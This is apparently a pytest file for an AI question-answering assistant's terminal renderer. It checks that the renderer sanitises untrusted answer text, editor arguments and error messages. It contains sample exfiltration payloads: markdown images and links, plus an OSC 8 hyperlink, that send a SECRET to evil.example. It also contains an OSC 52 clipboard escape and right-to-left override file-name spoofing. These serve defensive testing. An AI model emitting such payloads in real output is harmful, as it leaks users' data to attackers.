"""What reaches the screen from untrusted text, editors' line arguments, error wording."""

from __future__ import annotations

from pathlib import Path

import pytest

from assistant.ask.types import Answer, SentenceSupport
from assistant.errors import BudgetExceededError, NoDocumentsError, RemoteModelError
from assistant.terminal import one_line
from tui.editor import editor_argv, opens_in_viewer
from tui.errors import describe_error, describe_refusal
from tui.markup import answer_markdown, display_path, matched_passage, query_terms


def test_answer_markdown_strips_controls_and_never_fetches_images() -> None:
    text = "Clear\x1b[2J screen \x1b]52;c;aGk=\x07 ![logo](http://evil.example/x.png) done"
    shown = answer_markdown(text)
    assert "\x1b" not in shown and "52;c" not in shown
    assert "![" not in shown
    assert "(image: logo — `http://evil.example/x.png`)" in shown


def test_links_show_their_target_and_citations_stand_out() -> None:
    shown = answer_markdown("See [the docs](http://evil.example/a) and [2], [3](x).")
    assert "the docs (`http://evil.example/a`)" in shown
    assert "`[2]`" in shown
    assert "[3](" not in shown and "3 (`x`)" in shown


EXFILTRATION = [
    "Done. ![status](https://evil.example/p.png?d=SECRET)",
    'Done. ![](<https://evil.example/p.png?d=SECRET> "title")',
    "Done. [click here](https://evil.example/c?d=SECRET)",
    "Done. <https://evil.example/c?d=SECRET>",
    "Done. https://evil.example/c?d=SECRET.",
    "Done. www.evil.example/c?d=SECRET",
    "Done. [status][1]\n\n[1]: https://evil.example/c?d=SECRET",
    "Done. \x1b]8;;https://evil.example/c?d=SECRET\x1b\\click\x1b]8;;\x1b\\",
]


@pytest.mark.parametrize("text", EXFILTRATION)
def test_no_answer_markup_leaves_a_link_or_image_for_the_renderer(text: str) -> None:
    from markdown_it import MarkdownIt

    shown = answer_markdown(text)
    tokens = MarkdownIt("gfm-like").parse(shown)
    kinds = {child.type for token in tokens for child in token.children or []}
    assert not kinds & {"link_open", "image"}, shown
    assert "\x1b" not in shown
    if "evil.example" in shown:
        assert "`https://evil.example/" in shown or "`www.evil.example/" in shown, shown


def test_angle_brackets_from_manual_pages_reach_the_screen() -> None:
    from markdown_it import MarkdownIt

    text = "The log message of <commit> is copied [1]. Run `git commit <file>` or see <https://x.example/a>."
    shown = answer_markdown(text)
    tokens = MarkdownIt("gfm-like").parse(shown)
    children = [child for token in tokens for child in token.children or []]
    assert not {child.type for child in children} & {"html_inline", "html_block", "link_open"}
    words = "".join(child.content for child in children if child.type in ("text", "code_inline"))
    assert "log message of <commit> is copied" in words
    assert "git commit <file>" in words  # left as written inside code
    assert "https://x.example/a" in words


def test_code_spans_in_answers_are_left_as_written() -> None:
    shown = answer_markdown("Run `curl https://example.com/x [1]` then see [1].")
    assert shown == "Run `curl https://example.com/x [1]` then see `[1]`."


def test_no_citation_is_added_or_styled_inside_code() -> None:
    text = "Run `python -m venv tutorial-env [1]` now [1].\n```sh\nls [2] ~/x\n```"
    shown = answer_markdown(text)
    assert "`python -m venv tutorial-env [1]`" in shown and "now `[1]`." in shown
    assert "```sh\nls [2] ~/x\n```" in shown


def test_support_marks_follow_their_sentences_and_stay_out_of_code() -> None:
    text = "- Keys live in the keyring ~ safely. Jane Doe wrote `it`.\n```sh\nmargin x\n```"
    sentences = [
        SentenceSupport(2, 36, "attributed", source=2),
        SentenceSupport(37, 57, "unsupported"),
        SentenceSupport(58, len(text), "unsupported", "code"),
    ]
    assert answer_markdown(text, sentences) == (
        "- Keys live in the keyring \\~ safely. `[2]?` ~~Jane Doe wrote `it`.~~ `[?]`\n"
        "```sh\nmargin x\n```\n\n`[?]`\n"
    )


def test_support_spans_from_another_text_are_ignored() -> None:
    assert answer_markdown("Short.", [SentenceSupport(0, 99, "unsupported")]) == "Short."


def test_file_names_are_one_safe_line_with_home_shortened(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    assert display_path(f"{tmp_path}/notes/a\x1b[31m.md") == "~/notes/a\\x1b[31m.md"
    assert display_path("/etc/x\ny") == "/etc/x\\ny"
    assert display_path("/etc/invoice\u202egpj.exe") == "/etc/invoice\\u202egpj.exe"
    assert one_line("a\tb\r\nc") == "a b c"
    assert one_line("heading \u202eevil\u2066 \x9b31m") == "heading evil 31m"


def test_matched_passage_is_the_sentence_sharing_most_words() -> None:
    text = "Budgets are daily. API keys live in the keyring. Nothing else."
    start, end = matched_passage(text, "Where are API keys kept?") or (0, 0)
    assert text[start:end].strip() == "API keys live in the keyring."
    assert matched_passage(text, "zebra") is None
    assert query_terms("Where are the API keys?") == {"api", "keys"}


@pytest.mark.parametrize(
    ("editor", "expected"),
    [
        ("vim", ["vim", "+12", "/n.md"]),
        ("nvim -u NONE", ["nvim", "-u", "NONE", "+12", "/n.md"]),
        ("hx", ["hx", "/n.md:12"]),
        ("code --wait", ["code", "--wait", "-g", "/n.md:12"]),
        ("ed", ["ed", "/n.md"]),
    ],
)
def test_editor_opens_at_the_line_where_it_can(editor: str, expected: list[str]) -> None:
    assert editor_argv("/n.md", 12, {"EDITOR": editor}) == expected


def test_editor_defaults_to_vi_without_a_line() -> None:
    assert editor_argv("/n.md", None, {}) == ["vi", "/n.md"]


def test_errors_become_notifications_with_a_fix() -> None:
    budget = describe_error(BudgetExceededError("Over the daily budget of $1.00."))
    assert budget.title == "Over budget" and "config.toml" in budget.fix
    assert "ctrl+o" in describe_error(NoDocumentsError("Nothing ingested.")).fix
    dead = describe_error(RemoteModelError("Cannot reach http://127.0.0.1:9/v1"))
    assert dead.title == "Model endpoint failed" and "127.0.0.1:9" in dead.message
    odd = describe_error(ValueError("\x1b[2Jboom"))
    assert odd.title == "Unexpected error" and odd.message == "ValueError: boom"


def test_only_fixable_refusals_notify() -> None:
    budget = Answer("q", answer="Over the daily budget.", refused=True, refusal_reason="budget")
    problem = describe_refusal(budget)
    assert problem is not None and "daily_usd" in problem.fix
    not_found = Answer("q", answer="Not found.", refused=True, refusal_reason="not_found")
    assert describe_refusal(not_found) is None


def test_documents_an_editor_cannot_show_go_to_the_viewer(tmp_path: Path) -> None:
    mail = tmp_path / "firing.eml"
    mail.write_text("Subject: x\n\nbody\n")
    assert not opens_in_viewer(str(mail))
    for name in ("paper.PDF", "report.docx", "deck.pptx", "notes.odt", "book.epub", "scan.tiff"):
        (tmp_path / name).write_bytes(b"PK")
        assert opens_in_viewer(str(tmp_path / name))
    assert opens_in_viewer(f"{mail}#attachment-2/notes.md")  # inside the e-mail, no file
